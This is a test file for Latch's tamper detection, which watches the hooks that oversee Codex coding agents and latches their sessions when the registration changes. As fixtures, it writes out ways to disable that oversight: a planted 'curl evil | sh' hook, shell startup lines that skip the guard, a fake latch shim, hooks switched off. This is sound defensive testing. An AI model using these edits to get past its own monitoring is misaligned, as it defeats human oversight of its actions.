// Tamper evidence for Latch's registration (src/tamper/index.ts): what setup records, what each
// tier notices, and what a tamper does to the workspace's sessions. Every test runs on a throwaway
// install (a copy of dist/ layout with small files), CODEX_HOME, HOME and PATH.
import { test, describe, after } from 'node:test';
import assert from 'node:assert/strict';
import {
  appendFileSync,
  copyFileSync,
  existsSync,
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { spawn, spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { createRequire, syncBuiltinESMExports } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { Io } from '../../src/kit/io.js';
import { setupCodex, uninstallCodex } from '../../src/agents/codex/setup.js';
import { status } from '../../src/commands/status.js';
import { openStore, type Db } from '../../src/store/store.js';
import { getSession } from '../../src/session/records.js';
import {
  CLAUDE_SECURITY_KEYS,
  checkRegistration,
  claudeConfigDirOf,
  claudeLayerPaths,
  claudeManagedDir,
  fullCheck,
  guardRegistration,
  latchForTamper,
  layerDigest,
  loadRecorded,
  quickCheck,
  readNow as readNowForTest,
  recordClaudeLayers,
  recordRegistration,
  registrationLines,
  registrationReport,
  setupCommandOf,
  CTIME_SETTLE_MS,
  readForTrust,
  storedSig,
  tamperReasons,
  trustKeysOf,
  verifyOf,
  WRITTEN_BACK_MS,
  type FileRow,
  type Finding,
  type Recorded,
} from '../../src/tamper/index.js';
import { HOOK_CACHE_AGENTS } from '../../src/base/code-cache.js';
import { runCodexHook } from '../../src/hook.js';
import { assertValidReply } from '../helpers/schemas.js';
import { bash, payload, rolloutLine, type Sandbox } from '../helpers/workspace.js';
import { hasPython, mapper, tmpfsDir } from '../helpers/mmap.js';

const DIST = join(process.cwd(), 'dist', 'latch.cjs');

type Json = any; // eslint-disable-line @typescript-eslint/no-explicit-any

interface Box {
  dir: string;
  home: string;
  codexHome: string;
  latchHome: string;
  dist: string;
  entry: string;
  bin: string;
  work: string;
  io: Io & { text(): string };
}

const dirs: string[] = [];
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true, maxRetries: 5 });
});

function box(opts: { path?: string[] } = {}): Box {
  const dir = mkdtempSync(join(tmpdir(), 'latch-tamper-test-'));
  dirs.push(dir);
  const home = join(dir, 'home');
  const codexHome = join(dir, 'codex');
  const latchHome = join(dir, 'state');
  const pkg = join(dir, 'pkg');
  const dist = join(pkg, 'dist');
  const work = join(dir, 'work');
  for (const d of [home, codexHome, dist, join(pkg, 'bin'), work]) mkdirSync(d, { recursive: true });
  // A Latch install: the loader, the bundles, their code caches, the launcher.
  for (const n of ['latch.cjs', 'main.cjs', 'slow.cjs', 'observer.cjs', 'cli.cjs'])
    writeFileSync(join(dist, n), `// ${n}\nmodule.exports = 1;\n`);
  for (const n of ['main.cjs', 'slow.cjs', 'observer.cjs', 'cli.cjs'])
    writeFileSync(join(dist, `${n}.v8cache`), Buffer.alloc(64, n.length));
  writeFileSync(join(pkg, 'bin', 'latch.cjs'), "#!/usr/bin/env node\nrequire('../dist/latch.cjs');\n");
  writeFileSync(join(home, '.bash_profile'), '. ~/.bashrc\n');
  writeFileSync(join(home, '.bashrc'), 'alias ll="ls -l"\n');
  const env: NodeJS.ProcessEnv = {};
  for (const [k, v] of Object.entries(process.env)) if (!/^(CODEX_|LATCH_|XDG_STATE_HOME$)/.test(k)) env[k] = v;
  env.HOME = home;
  env.CODEX_HOME = codexHome;
  env.LATCH_HOME = latchHome;
  env.PATH = (opts.path ?? [join(dir, 'nobin')]).join(':');
  let out = '';
  const io = {
    out: (t: string) => void (out += t),
    err: (t: string) => void (out += t),
    env,
    cwd: work,
    interactive: false,
    ask: async () => '',
    now: () => new Date().toISOString(),
    text: () => out,
  };
  return {
    dir,
    home,
    codexHome,
    latchHome,
    dist,
    entry: join(dist, 'latch.cjs'),
    bin: join(pkg, 'bin', 'latch.cjs'),
    work,
    io,
  };
}

async function setup(b: Box, extra: { project?: string } = {}): Promise<string> {
  let out = '';
  const code = await setupCodex(
    { ...b.io, out: (t: string) => void (out += t) },
    { codexHome: b.codexHome, entry: b.entry, node: process.execPath, ...extra },
  );
  assert.equal(code, 0);
  return out;
}

function withDb<T>(b: Box, fn: (db: Db) => T): T {
  const db = openStore(b.latchHome, { create: false });
  try {
    return fn(db);
  } finally {
    db.close();
  }
}

const check = (b: Box, workspace: string | null = b.work) =>
  withDb(b, (db) => checkRegistration(db, { workspace, now: new Date().toISOString() }));
const codes = (fs: Finding[]) => fs.filter((f) => f.severity === 'tamper').map((f) => f.code);

function editHooks(b: Box, fn: (hooks: Json) => void): void {
  const file = join(b.codexHome, 'hooks.json');
  const data = JSON.parse(readFileSync(file, 'utf8'));
  fn(data.hooks);
  writeFileSync(file, JSON.stringify(data, null, 2) + '\n');
}

/** Trust entries as Codex's /hooks review writes them (the hash value itself is Codex's business). */
function trustAll(b: Box): string[] {
  const keys = withDb(b, (db) => {
    const rec = loadRecorded(db);
    const s = JSON.parse(rec.scopes.find((x) => x.kind === 'user')!.json) as {
      hooks_file: string;
      handlers: { event: string; group: number; index: number }[];
    };
    return s.handlers.map((h) => trustKeysOf(s.hooks_file, h)[0]!);
  });
  writeFileSync(
    join(b.codexHome, 'config.toml'),
    'model = "gpt-5.5"\n\n' +
      keys
        .map((k, i) => `[hooks.state.${JSON.stringify(k)}]\ntrusted_hash = "sha256:${String(i).padStart(64, '0')}"\n`)
        .join('\n'),
  );
  return keys;
}

function insertSession(
  db: Db,
  id: string,
  workspace: string,
  state: 'mutable' | 'latched' | 'paused',
  reason: string | null = null,
): void {
  db.prepare(
    `INSERT INTO sessions (session_id, workspace, cwd, policy, scope, policy_json, state, state_reason, created_at, updated_at)
     VALUES (?, ?, ?, 'fail_closed', 'session', '{}', ?, ?, 't0', 't0')`,
  ).run(id, workspace, workspace, state, reason);
}

describe('setup records the fingerprint', () => {
  test('every file class is recorded; absent startup files as absent; nothing differs right after setup', async () => {
    const b = box();
    const out = await setup(b);
    assert.match(out, /Registration fingerprint recorded \(\d+ files/);
    assert.match(out, /re-run `latch setup codex`/);
    withDb(b, (db) => {
      const rec = loadRecorded(db);
      const role = (p: string) => rec.files.find((f) => f.path === p)?.role;
      assert.equal(role(join(b.codexHome, 'hooks.json')), 'hooks');
      assert.equal(role(join(b.codexHome, 'config.toml')), 'config');
      for (const n of [
        'latch.cjs',
        'main.cjs',
        'slow.cjs',
        'observer.cjs',
        'cli.cjs',
        'main.cjs.v8cache',
        'cli.cjs.v8cache',
      ])
        assert.equal(role(join(b.dist, n)), 'installed', n);
      assert.equal(role(b.bin), 'installed');
      assert.equal(role(join(b.home, '.bash_profile')), 'shell');
      const login = rec.files.find((f) => f.path === join(b.home, '.bash_login'));
      assert.equal(login?.sig, 'absent');
      assert.equal(login?.role, 'shell');
      const user = JSON.parse(rec.scopes.find((s) => s.kind === 'user')!.json);
      assert.equal(user.handlers.length, 9);
      for (const h of user.handlers)
        assert.deepEqual(Object.keys(JSON.parse(h.json)).sort(), ['command', 'statusMessage', 'timeout', 'type']);
      assert.match(user.hooks_sha256, /^[0-9a-f]{64}$/);
      assert.equal(quickCheck(db, { workspace: b.work }).status, 'ok');
      assert.deepEqual(fullCheck(rec, { workspace: b.work }).findings, []);
    });
    assert.equal(check(b).status, 'ok');
  });

  test('no fingerprint (a store from an older setup): a warn finding, never a tamper', async () => {
    const b = box();
    mkdirSync(b.latchHome);
    openStore(b.latchHome, { create: true }).close();
    const r = check(b);
    assert.equal(r.status, 'unrecorded');
    assert.equal(r.findings.length, 1);
    assert.equal(r.findings[0]!.code, 'no_fingerprint');
    assert.equal(r.findings[0]!.severity, 'warn');
    assert.deepEqual(tamperReasons(r.findings), []);
  });
});

describe('each file class is watched', () => {
  test("hooks.json: a Latch handler's command edited", async () => {
    const b = box();
    await setup(b);
    editHooks(b, (h) => {
      h.PreToolUse[0].hooks[0].command = "/bin/sh -c 'exit 0' # latch.cjs hook codex --event PreToolUse";
    });
    const r = check(b);
    assert.equal(r.status, 'tampered');
    assert.deepEqual(codes(r.findings), ['handler_changed']);
    assert.match(r.findings[0]!.detail, /PreToolUse handler command now/);
    assert.equal(r.findings[0]!.path, join(b.codexHome, 'hooks.json'));
  });

  test('hooks.json: a handler removed, a foreign hook added, and a formatting-only rewrite (no finding)', async () => {
    const b = box();
    await setup(b);
    const file = join(b.codexHome, 'hooks.json');
    writeFileSync(file, JSON.stringify(JSON.parse(readFileSync(file, 'utf8')))); // same JSON, other bytes
    assert.equal(check(b).status, 'ok');
    editHooks(b, (h) => {
      h.SessionStart.push({ hooks: [{ type: 'command', command: 'curl evil | sh' }] });
    });
    assert.deepEqual(codes(check(b).findings), ['hooks_file_changed']);
    editHooks(b, (h) => {
      delete h.Stop;
    });
    assert.deepEqual(codes(check(b).findings).sort(), ['handler_removed']);
  });

  test('config.toml: adding trust is accepted; removing a trust entry is a tamper', async () => {
    const b = box();
    await setup(b);
    const keys = trustAll(b);
    const r1 = check(b);
    assert.equal(r1.status, 'ok', JSON.stringify(r1.findings));
    assert.equal(r1.escalated, true);
    assert.equal(check(b).escalated, false, 'the accepted change is the new baseline');
    const cfg = readFileSync(join(b.codexHome, 'config.toml'), 'utf8');
    const stanza = `[hooks.state.${JSON.stringify(keys[1])}]`;
    writeFileSync(
      join(b.codexHome, 'config.toml'),
      cfg.replace(
        new RegExp(
          `\\[hooks\\.state\\.${JSON.stringify(keys[1]).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\]\\ntrusted_hash = "[^"]*"\\n`,
        ),
        '',
      ),
    );
    assert.ok(!readFileSync(join(b.codexHome, 'config.toml'), 'utf8').includes(stanza));
    const r2 = check(b);
    assert.equal(r2.status, 'tampered');
    assert.deepEqual(codes(r2.findings), ['trust_removed']);
    assert.ok(r2.findings[0]!.detail.includes(keys[1]!));
  });

  test('config.toml: the hooks feature flag turned off; another table edited is no finding', async () => {
    const b = box();
    await setup(b);
    writeFileSync(join(b.codexHome, 'config.toml'), 'model = "other"\n[tui]\nnotifications = true\n');
    assert.equal(check(b).status, 'ok');
    writeFileSync(join(b.codexHome, 'config.toml'), 'model = "other"\n[features]\nhooks = false\n');
    const r = check(b);
    assert.deepEqual(codes(r.findings), ['feature_disabled']);
    assert.match(r.findings[0]!.detail, /features\.hooks = false/);
    writeFileSync(join(b.codexHome, 'config.toml'), 'model = [unclosed\n');
    assert.deepEqual(codes(check(b).findings), ['config_unreadable']);
  });

  test('an installed file: one byte of dist/main.cjs changed, same size, mtime set back (ctime gives it away)', async () => {
    const b = box();
    await setup(b);
    const main = join(b.dist, 'main.cjs');
    const st = statSync(main);
    const bytes = readFileSync(main);
    bytes[3] = bytes[3]! ^ 1;
    writeFileSync(main, bytes);
    utimesSync(main, st.atime, st.mtime);
    assert.equal(statSync(main).size, st.size);
    const r = check(b);
    assert.equal(r.status, 'tampered');
    assert.deepEqual(codes(r.findings), ['file_changed']);
    assert.match(r.findings[0]!.detail, /same size/);
    assert.equal(r.findings[0]!.path, main);
    // A code cache appearing or changing is code too.
    writeFileSync(join(b.dist, 'slow.cjs.v8cache'), Buffer.alloc(64, 1));
    assert.ok(check(b).findings.some((f) => f.path.endsWith('slow.cjs.v8cache') && f.code === 'file_changed'));
  });

  test("an agent's hook cache planted where setup found none (main.cjs.<agent>.v8cache) is a finding", async () => {
    const b = box();
    await setup(b);
    assert.equal(check(b).status, 'ok');
    for (const agent of HOOK_CACHE_AGENTS) {
      const cache = join(b.dist, `main.cjs.${agent}.v8cache`);
      writeFileSync(cache, Buffer.alloc(64, 7));
      assert.ok(
        check(b).findings.some((f) => f.path === cache),
        `${agent}: a planted cache is code the hook would run`,
      );
      rmSync(cache);
    }
  });

  test('a shell startup file: appended to ~/.bash_profile, and ~/.bash_login created', async () => {
    const b = box();
    await setup(b);
    appendFileSync(join(b.home, '.bash_profile'), 'case "$BASH_EXECUTION_STRING" in *latch*) exit 0;; esac\n');
    let r = check(b);
    assert.deepEqual(codes(r.findings), ['file_changed']);
    assert.equal(r.findings[0]!.path, join(b.home, '.bash_profile'));
    assert.match(r.findings[0]!.detail, /shell startup file/);
    writeFileSync(join(b.home, '.bash_login'), 'exit 0\n');
    r = check(b);
    assert.deepEqual(codes(r.findings).sort(), ['file_appeared', 'file_changed']);
  });

  test('a file replaced by a symlink to the same content', async () => {
    const b = box();
    await setup(b);
    const rc = join(b.home, '.bashrc');
    const copy = join(b.dir, 'bashrc-copy');
    copyFileSync(rc, copy);
    rmSync(rc);
    symlinkSync(copy, rc);
    const r = check(b);
    assert.deepEqual(codes(r.findings), ['file_replaced']);
    assert.match(r.findings[0]!.detail, /was a file, now a symlink -> /);
    // A FIFO (or a device) is reported, never read (reading one would hang the hook).
    const profile = join(b.home, '.bash_profile');
    rmSync(profile);
    assert.equal(spawnSync('mkfifo', [profile]).status, 0);
    const f = check(b);
    assert.ok(
      f.findings.some((x) => x.code === 'file_replaced' && x.path === profile && /now a special file/.test(x.detail)),
      JSON.stringify(f.findings),
    );
  });

  test('touch with the same content: escalates once, no finding, then quick again', async () => {
    const b = box();
    await setup(b);
    const future = new Date(Date.now() + 60_000);
    for (const p of [join(b.dist, 'main.cjs'), join(b.home, '.bash_profile'), join(b.codexHome, 'hooks.json')])
      utimesSync(p, future, future);
    const r = check(b);
    assert.equal(r.status, 'ok', JSON.stringify(r.findings));
    assert.equal(r.escalated, true);
    const again = check(b);
    assert.equal(again.status, 'ok');
    assert.equal(again.escalated, false);
    // Kept as evidence (a change undone before any hook ran looks like this), shown as notes.
    const rep = withDb(b, (db) => registrationReport(db, b.work));
    assert.equal(rep.status, 'ok');
    assert.deepEqual(
      rep.touched.map((x) => x.path).sort(),
      [join(b.codexHome, 'hooks.json'), join(b.dist, 'main.cjs'), join(b.home, '.bash_profile')].sort(),
    );
    let out = '';
    assert.equal(await status({ ...b.io, out: (t: string) => void (out += t) }, {}), 0);
    assert.match(out, /note: .*\.bash_profile: touched at .*, content unchanged/);
    await setup(b); // re-recording starts a new log
    assert.deepEqual(withDb(b, (db) => registrationReport(db, b.work)).touched, []);
  });

  test('PATH: a `latch` shim planted ahead of the real one', async () => {
    const b0 = box();
    const first = join(b0.dir, 'first');
    const second = join(b0.dir, 'second');
    mkdirSync(first);
    mkdirSync(second);
    const b = { ...b0, io: { ...b0.io, env: { ...b0.io.env, PATH: `${first}:${second}` } } };
    symlinkSync(b.bin, join(second, 'latch'));
    chmodSync(b.bin, 0o755);
    await setup(b);
    writeFileSync(join(first, 'latch'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    const r = check(b);
    assert.deepEqual(codes(r.findings), ['path_shim']);
    assert.match(
      r.findings[0]!.detail,
      /`latch` on the PATH setup recorded now resolves to .*first\/latch \(was .*second\/latch\)/,
    );
  });

  test("the workspace's own .codex/config.toml turning hooks off (no baseline needed)", async () => {
    const b = box();
    await setup(b);
    mkdirSync(join(b.work, '.codex'));
    writeFileSync(join(b.work, '.codex', 'config.toml'), '[features]\ncodex_hooks = false\n');
    const r = check(b);
    assert.deepEqual(codes(r.findings), ['feature_disabled']);
    assert.equal(r.findings[0]!.path, join(b.work, '.codex', 'config.toml'));
    assert.equal(check(b, join(b.dir, 'elsewhere')).status, 'ok', 'another workspace is not concerned');
  });

  test('a project install: its .codex/hooks.json handler edited, the project untrusted in the user config', async () => {
    const b = box();
    const project = join(b.dir, 'proj');
    mkdirSync(project);
    writeFileSync(join(b.codexHome, 'config.toml'), `[projects.${JSON.stringify(project)}]\ntrust_level = "trusted"\n`);
    await setup(b, { project });
    assert.equal(check(b, project).status, 'ok');
    const file = join(project, '.codex', 'hooks.json');
    const data = JSON.parse(readFileSync(file, 'utf8'));
    data.hooks.PreToolUse[0].hooks[0].timeout = 1;
    writeFileSync(file, JSON.stringify(data));
    let r = check(b, project);
    assert.deepEqual(codes(r.findings), ['handler_changed']);
    assert.match(r.findings[0]!.detail, /timeout 120 -> 1/);
    await setup(b, { project }); // re-recorded: the human's way to accept it
    assert.equal(check(b, project).status, 'ok');
    writeFileSync(
      join(b.codexHome, 'config.toml'),
      `[projects.${JSON.stringify(project)}]\ntrust_level = "untrusted"\n`,
    );
    r = check(b, project);
    assert.deepEqual(codes(r.findings), ['project_untrusted']);
    assert.equal(r.findings[0]!.path, join(b.codexHome, 'config.toml'));
  });

  test('the alarm is cached: the same stat identities do not re-hash', async () => {
    const b = box();
    await setup(b);
    appendFileSync(join(b.home, '.bashrc'), 'exit 0\n');
    assert.equal(check(b).cached, false);
    const r = check(b);
    assert.equal(r.status, 'tampered');
    assert.equal(r.cached, true);
    // Re-running setup (the human's way to accept a change) records it again.
    await setup(b);
    assert.equal(check(b).status, 'ok');
  });

  test('uninstall forgets the registration', async () => {
    const b = box();
    await setup(b);
    assert.equal(await uninstallCodex({ ...b.io, out: () => {} }, { codexHome: b.codexHome }), 0);
    assert.equal(check(b).status, 'unrecorded');
  });
});

describe('quickCheck is stat-only', () => {
  test('reads no file contents and hashes nothing; cost per call measured', async (t) => {
    const b = box();
    await setup(b);
    // The CommonJS objects behind the built-ins (what the ESM named exports are synced from).
    const fs = createRequire(import.meta.url)('node:fs') as typeof import('node:fs');
    const crypto = createRequire(import.meta.url)('node:crypto') as typeof import('node:crypto');
    const readSpy = t.mock.method(fs, 'readFileSync');
    const openSpy = t.mock.method(fs, 'openSync');
    const hashSpy = t.mock.method(crypto, 'createHash');
    syncBuiltinESMExports();
    try {
      withDb(b, (db) => {
        readSpy.mock.resetCalls();
        openSpy.mock.resetCalls();
        hashSpy.mock.resetCalls();
        const n = 200;
        let r = quickCheck(db, { workspace: b.work });
        const t0 = process.hrtime.bigint();
        for (let i = 0; i < n; i++) r = quickCheck(db, { workspace: b.work });
        const us = Number(process.hrtime.bigint() - t0) / n / 1000;
        assert.equal(r.status, 'ok');
        assert.equal(readSpy.mock.callCount(), 0, 'quickCheck read a file');
        assert.equal(openSpy.mock.callCount(), 0, 'quickCheck opened a file');
        assert.equal(hashSpy.mock.callCount(), 0, 'quickCheck hashed');
        // Also after a change: the quick tier reports it without reading anything.
        appendFileSync(join(b.home, '.bashrc'), '\n');
        readSpy.mock.resetCalls();
        const c = quickCheck(db, { workspace: b.work });
        assert.equal(c.status, 'changed');
        assert.deepEqual(
          c.changed.map((x) => x.path),
          [join(b.home, '.bashrc')],
        );
        assert.equal(readSpy.mock.callCount(), 0);
        // Positive control: the spies do see what tamper.ts reads and hashes (the full tier).
        fullCheck(loadRecorded(db), { only: loadRecorded(db).files.filter((f) => f.path === join(b.home, '.bashrc')) });
        assert.ok(readSpy.mock.callCount() > 0 && hashSpy.mock.callCount() > 0, 'the spies do not see tamper.ts');
        const l0 = process.hrtime.bigint();
        for (let i = 0; i < n; i++) fs.lstatSync(b.entry, { bigint: true });
        const lstatUs = Number(process.hrtime.bigint() - l0) / n / 1000;
        t.diagnostic(
          `quickCheck: ${us.toFixed(1)} µs per call for ${r.files} files (one lstat here: ${lstatUs.toFixed(1)} µs)`,
        );
        assert.ok(us < 5_000, `quickCheck took ${us} µs`);
      });
    } finally {
      readSpy.mock.restore();
      openSpy.mock.restore();
      hashSpy.mock.restore();
      syncBuiltinESMExports();
    }
  });
});

describe('what a tamper does', () => {
  test('latchForTamper latches every session of the workspace once, with reason registration_changed', async () => {
    const b = box();
    await setup(b);
    appendFileSync(join(b.home, '.bash_profile'), 'exit 0\n');
    const r = check(b);
    assert.equal(r.status, 'tampered');
    withDb(b, (db) => {
      insertSession(db, 'A', b.work, 'mutable');
      insertSession(db, 'B', b.work, 'paused', 'paused after compaction 1');
      insertSession(db, 'C', b.work, 'latched', 'latched after compaction 2');
      insertSession(db, 'D', join(b.dir, 'other'), 'mutable');
      const now = '2026-01-01T00:00:00.000Z';
      assert.deepEqual(latchForTamper(db, b.work, r.findings, now).sort(), ['A', 'B', 'C']);
      for (const id of ['A', 'B', 'C']) {
        const s = getSession(db, id)!;
        assert.equal(s.state, 'latched');
        assert.match(s.state_reason ?? '', /^registration_changed: .*\.bash_profile/);
      }
      assert.match(getSession(db, 'C')!.state_reason!, /latched before: latched after compaction 2/);
      assert.equal(getSession(db, 'D')!.state, 'mutable');
      const t = db
        .prepare(`SELECT session_id, event, from_state, to_state, evidence_json FROM transitions ORDER BY id`)
        .all() as Json[];
      assert.deepEqual(
        t.map((x) => [x.session_id, x.event, x.from_state, x.to_state]),
        [
          ['A', 'inherit:latched', 'mutable', 'latched'],
          ['B', 'inherit:latched', 'paused', 'latched'],
          ['C', 'inherit:latched', 'latched', 'latched'],
        ],
      );
      assert.equal(JSON.parse(t[0].evidence_json).code, 'registration_changed');
      assert.equal(JSON.parse(t[0].evidence_json).findings[0].code, 'file_changed');
      // Idempotent: the hook calls it on every call while the change stands.
      assert.deepEqual(latchForTamper(db, b.work, r.findings, now), []);
      // A warn-only result latches nothing.
      insertSession(db, 'E', b.work, 'mutable');
      assert.deepEqual(
        latchForTamper(db, b.work, [{ code: 'no_fingerprint', severity: 'warn', path: '', detail: 'x' }], now),
        [],
      );
    });
    const reasons = tamperReasons(r.findings);
    assert.ok(reasons.every((x) => x.code === 'registration_changed'));
    assert.match(reasons.at(-1)!.message, /re-runs `latch setup codex`/);
  });

  test("guardRegistration (the guard's one call): ok, then tamper latches and gives deny reasons; a failure never throws", async (t) => {
    const b = box();
    await setup(b);
    withDb(b, (db) => {
      insertSession(db, 'S', b.work, 'mutable');
      let g = guardRegistration(db, b.work, 'now');
      assert.equal(g.status, 'ok');
      assert.deepEqual(g.reasons, []);
      const n = 500;
      const t0 = process.hrtime.bigint();
      for (let i = 0; i < n; i++) guardRegistration(db, b.work, 'now');
      t.diagnostic(
        `guardRegistration, nothing changed: ${(Number(process.hrtime.bigint() - t0) / n / 1000).toFixed(1)} µs per call`,
      );
      writeFileSync(join(b.codexHome, 'config.toml'), '[features]\nhooks = false\n');
      g = guardRegistration(db, b.work, 'now');
      assert.equal(g.status, 'tampered');
      assert.deepEqual(g.latched, ['S']);
      assert.equal(getSession(db, 'S')!.state, 'latched');
      assert.ok(g.reasons.length >= 2 && g.reasons.every((r) => r.code === 'registration_changed'));
      assert.match(g.reasons[0]!.message, /features\.hooks = false/);
      g = guardRegistration(db, b.work, 'now');
      assert.deepEqual(g.latched, [], 'already latched for this reason');
      assert.equal(g.status, 'tampered');
    });
    const db = openStore(b.latchHome, { create: false });
    db.close();
    const g = guardRegistration(db, b.work, 'now');
    assert.equal(g.status, 'error');
    assert.equal(g.reasons[0]!.code, 'registration_changed');
  });

  test('the human is told: a Latch handler switched off in /hooks, found by a PostToolUse, answers with a systemMessage', async () => {
    const b = box();
    await setup(b);
    const keys = trustAll(b);
    const transcript = join(b.dir, 'rollout.jsonl');
    writeFileSync(
      transcript,
      rolloutLine('session_meta', { id: 'S', session_id: 'S', cwd: b.work, cli_version: '0.169.0' }),
    );
    const sb = { work: b.work, transcript } as Sandbox;
    const env = { ...b.io.env, LATCH_RESIDENT: 'off' };
    const pre = await runCodexHook(
      JSON.stringify(bash(sb, 'echo a > a.txt', { tool_use_id: 'c1' })),
      'PreToolUse',
      env,
    );
    assert.equal(pre.stdout, null, 'allowed while the registration holds');
    const post = () =>
      runCodexHook(
        JSON.stringify(
          payload('post-tool-use-bash', sb, { tool_use_id: 'c1', tool_input: { command: 'echo a > a.txt' } }),
        ),
        'PostToolUse',
        env,
      );
    assert.equal((await post()).stdout, null, 'nothing to say while nothing changed');
    // What Codex's /hooks writes when the user switches one of Latch's handlers off.
    const config = join(b.codexHome, 'config.toml');
    writeFileSync(
      config,
      readFileSync(config, 'utf8').replace(
        `[hooks.state.${JSON.stringify(keys[0])}]\n`,
        (m) => `${m}enabled = false\n`,
      ),
    );
    const reply = assertValidReply('PostToolUse', (await post()).stdout) as { systemMessage?: string } | null;
    assert.match(reply?.systemMessage ?? '', /^Latch: Latch's registration changed .*enabled = false.*latch verify/s);
    withDb(b, (db) => assert.equal(getSession(db, 'S')!.state, 'latched'));
  });

  test('latch status shows the comparison, text and --json', async () => {
    const b = box();
    await setup(b);
    let out = '';
    const io = { ...b.io, out: (t: string) => void (out += t) };
    assert.equal(await status(io, { json: true }), 0);
    let j = JSON.parse(out);
    assert.equal(j.registration.status, 'ok');
    assert.deepEqual(j.registration.findings, []);
    renameSync(join(b.dist, 'observer.cjs'), join(b.dist, 'observer.cjs.bak'));
    out = '';
    assert.equal(await status(io, { json: true }), 0);
    j = JSON.parse(out);
    assert.equal(j.registration.status, 'changed');
    assert.deepEqual(
      j.registration.findings.map((f: Finding) => [f.code, f.path]),
      [['file_missing', join(b.dist, 'observer.cjs')]],
    );
    out = '';
    assert.equal(await status(io, {}), 0);
    assert.match(out, /Registration: CHANGED since `latch setup codex`/);
    assert.match(out, /changed: .*observer\.cjs: Latch installed file was removed \[file_missing\]/);
    assert.match(out, /next: .*re-run `latch setup codex`/);
    const rep = withDb(b, (db) => registrationReport(db, b.work));
    assert.equal(rep.status, 'changed');
  });
});

// ---------------------------------------------------------------------------------------------
// a human's edit is not an attack (issue 23): a change no tool call (nor a job of one) could have made
// refuses tracked calls until `latch setup` records it, and latches nothing

describe("a human's edit is not an attack", () => {
  /** A session of the box: its transcript, and its hook calls (in this process, or as a separate one). */
  function session(b: Box, name: string) {
    const id = `${name}-${randomUUID()}`;
    const transcript = join(b.dir, `${id}.jsonl`);
    writeFileSync(transcript, rolloutLine('session_meta', { id, session_id: id, cwd: b.work, cli_version: '0.169.0' }));
    const sb = { work: b.work, transcript } as Sandbox;
    const env = { ...b.io.env, LATCH_RESIDENT: 'off' };
    const pre = async (call: string, command = `echo ${call} > ${call}.txt`) =>
      (await runCodexHook(JSON.stringify(bash(sb, command, { tool_use_id: call, session_id: id })), 'PreToolUse', env))
        .stdout;
    const post = async (call: string, command = `echo ${call} > ${call}.txt`) =>
      (
        await runCodexHook(
          JSON.stringify(
            payload('post-tool-use-bash', sb, { tool_use_id: call, session_id: id, tool_input: { command } }),
          ),
          'PostToolUse',
          env,
        )
      ).stdout;
    /** The hook as its own process (this test's children are then not its own). */
    const preApart = (call: string) =>
      spawnSync(process.execPath, [DIST, 'hook', 'codex', '--event', 'PreToolUse'], {
        env,
        encoding: 'utf8',
        input: JSON.stringify(bash(sb, `echo ${call} > ${call}.txt`, { tool_use_id: call, session_id: id })),
      });
    return { id, pre, post, preApart, state: () => withDb(b, (db) => getSession(db, id)!.state) };
  }
  const denied = (stdout: string | null): string => {
    const r = assertValidReply('PreToolUse', stdout) as { hookSpecificOutput?: { permissionDecisionReason?: string } };
    const why = r?.hookSpecificOutput?.permissionDecisionReason;
    assert.ok(why, `denied: ${stdout}`);
    return why;
  };
  /** Past the end of every attempt window (the end + 2 s). */
  const pastWindows = () => new Promise((r) => setTimeout(r, 2_300));

  test('an edit outside every tool call: calls refused, nothing latched; setup records it and lists what it released', async () => {
    const b = box();
    await setup(b);
    const s = session(b, 'S');
    assert.equal(await s.pre('c1'), null);
    // A program of the user's, started from another shell during the call, runs on: not the agent's.
    const users = spawn('sleep', ['60'], { stdio: 'ignore' });
    await s.post('c1');
    await pastWindows();
    appendFileSync(join(b.home, '.bashrc'), "alias ll='ls -la'\n");
    const reply = s.preApart('c2');
    users.kill('SIGKILL');
    const why = denied(reply.stdout);
    assert.match(why, /\.bashrc/);
    assert.match(why, /a human's edit/);
    assert.equal(s.state(), 'mutable', 'not latched');
    // A session that starts meanwhile is refused too, and not latched either.
    const t = session(b, 'T');
    denied(await t.pre('d1'));
    assert.equal(t.state(), 'mutable');
    const out = await setup(b);
    assert.match(out, /Accepted the registration change found at .*a human edit/);
    assert.match(out, new RegExp(`Released ${b.work}: 2 sessions`));
    assert.doesNotMatch(out, /Still latched/);
    assert.equal(await s.pre('c3'), null, 'allowed again: no verify, no --accept-changes');
    assert.equal(await t.pre('d2'), null);
  });

  test('an edit during a tool call latches, as before; setup says the sessions stay latched', async () => {
    const b = box();
    await setup(b);
    const s = session(b, 'S');
    assert.equal(await s.pre('c1'), null);
    appendFileSync(join(b.home, '.bashrc'), 'export BASH_ENV=/tmp/x\n');
    await s.post('c1');
    const why = denied(await s.pre('c2'));
    assert.match(why, /Every session of this workspace is latched/);
    assert.equal(s.state(), 'latched');
    const out = await setup(b);
    assert.match(out, new RegExp(`Still latched ${b.work}: 1 session`));
    assert.equal(s.state(), 'latched');
    const still = denied(await s.pre('c3'));
    assert.match(still, /latched: Latch's registration changed while an agent's tool call/);
    assert.doesNotMatch(still, /compacted/, 'it never compacted');
  });

  test('an edit outside every call while a job a call started still runs latches (the job could have made it)', {
    skip: !existsSync(DIST) && 'dist/ not built',
  }, async () => {
    const b = box();
    await setup(b);
    const s = session(b, 'S');
    assert.equal(await s.pre('c1'), null);
    // The call's job: started inside its window with the session's mark, still running after it;
    // beside it a process of the user's started in the same window (no mark), which is no job.
    const job = spawn('sleep', ['60'], { stdio: 'ignore', env: { ...process.env, CODEX_THREAD_ID: s.id } });
    const users = spawn('sleep', ['61'], { stdio: 'ignore' });
    try {
      await s.post('c1');
      await pastWindows();
      appendFileSync(join(b.home, '.bashrc'), "alias ll='ls -la'\n");
      const r = s.preApart('c2');
      assert.equal(r.status, 0, r.stderr);
      assert.match(denied(r.stdout), /Every session of this workspace is latched/);
      assert.equal(s.state(), 'latched');
      const alarm = withDb(b, (db) => db.prepare('SELECT origin_json FROM registration_alarm').pluck().get());
      assert.match(String(alarm), new RegExp(`"origin":"agent".*pid ${job.pid} \\(sleep 60\\)`));
    } finally {
      job.kill('SIGKILL');
      users.kill('SIGKILL');
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Claude Code settings layers: recorded per session (its first hook), compared on every hook

interface ClaudeBox extends Box {
